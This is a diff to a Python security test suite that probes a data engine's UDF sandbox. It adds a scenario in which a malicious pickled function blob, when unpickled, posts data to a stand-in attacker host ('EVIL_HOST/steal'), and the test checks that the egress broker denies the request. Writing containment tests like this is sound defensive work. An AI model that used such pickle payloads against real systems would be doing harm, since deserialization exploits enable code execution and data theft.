@@ -4,10 +4,10 @@ Every scenario ships real attacker code through the public UDF path and
 asserts the sandbox boundary held: no egress delivery, no ambient
 credentials in scope, no host-filesystem reads, no policy escalation, no
 cross-trust-domain invocation, no code run in the driver by a forged worker
-frame. The in-process sandbox shares an interpreter with the driver, so raw
-``open()``/``gc`` introspection is a *documented* gap (DESIGN.md §12 known
-gaps), not something these probes pretend to contain — they attack the
-brokered paths the design actually defends.
+frame or by a client's function blob. The worker has no mount namespace, so
+a raw ``open()`` of a host file still works there — a *documented* gap
+(DESIGN.md §12 known gaps), not something these probes pretend to contain:
+they attack the brokered paths the design actually defends.
 """
 
 from __future__ import annotations
@@ -132,6 +132,41 @@ def udf_host_filesystem_probe(gauntlet: Any) -> AttackResult:
 
 
 @attack_scenario(
+    name="udf-blob-driver-exec",
+    layer="sandbox",
+    technique="udf-probe",
+    expected_containment="a client's function blob stays bytes in the "
+    "driver (decode only parses its opcodes); the worker unpickles it, and "
+    "the egress broker denies the POST that makes (EgressDenied)",
+)
+def udf_blob_driver_exec(gauntlet: Any) -> AttackResult:
+    """A client's UDF blob whose *unpickling* POSTs to the attacker — in
+    whichever process decodes it."""
+    import pickle
+
+    from repro.connect import proto
+    from repro.sandbox import net
+
+    class Beacon:
+        def __reduce__(self):
+            return (net.http_post, (f"http://{h.EVIL_HOST}/steal", "decoded"))
+
+    beacon = proto.python_udf("b", "string", pickle.dumps(Beacon()), [proto.column("buyer")])
+    relation = proto.project(proto.read_table(h.ORDERS), [beacon])
+    rows: Any = None
+    error: LakeguardError | None = None
+    try:
+        rows = gauntlet.client_for("alice").execute_relation(relation)
+    except LakeguardError as exc:
+        error = exc
+    if gauntlet.evil_received:
+        return leaked(f"decoding the blob reached the evil endpoint: {gauntlet.evil_received}")
+    if not isinstance(error, EgressDenied):
+        return leaked(f"expected EgressDenied, query returned {error or rows}")
+    return judge(error, gauntlet.forbidden_tokens(), "blob decoded only in the worker")
+
+
+@attack_scenario(
     name="udf-ambient-policy-escalation",
     layer="sandbox",
     technique="udf-probe",
@@ -175,18 +210,14 @@ def udf_ambient_policy_escalation(gauntlet: Any) -> AttackResult:
 )
 def udf_cross_trust_domain_invoke(gauntlet: Any) -> AttackResult:
     """Alice's UDF is routed into a sandbox belonging to mallory's domain."""
-    from repro.engine.types import type_from_name
-    from repro.engine.udf import PythonUDF
+    from repro.engine.udf import udf as engine_udf
     from repro.sandbox.policy import LOCKED_DOWN
-    from repro.sandbox.sandbox import InProcessSandbox
+    from repro.sandbox.subprocess_sandbox import SubprocessSandbox
 
-    alice_udf = PythonUDF(
-        name="leak_probe",
-        func=lambda v: v,
-        return_type=type_from_name("string"),
-        owner="alice",
+    alice_udf = engine_udf("string", name="leak_probe")(lambda v: v).with_owner(
+        "alice"
     )
-    mallory_box = InProcessSandbox("mallory", LOCKED_DOWN)
+    mallory_box = SubprocessSandbox("mallory", LOCKED_DOWN)
     try:
         try:
             rows = mallory_box.invoke(alice_udf, [["payload"]])
@@ -234,9 +265,8 @@ def udf_frame_forgery(gauntlet: Any) -> AttackResult:
         os.write(1, struct.pack(">I", len(body)) + body)
         return buyer
 
-    # Only the subprocess backend has a frame stream to forge.
     cluster = gauntlet.workspace.create_standard_cluster(
-        name="gauntlet-frame-forgery", sandbox_backend="subprocess"
+        name="gauntlet-frame-forgery"
     )
     try:
         rows, error = _run_udf_select(cluster.connect("alice"), forge(col("buyer")))
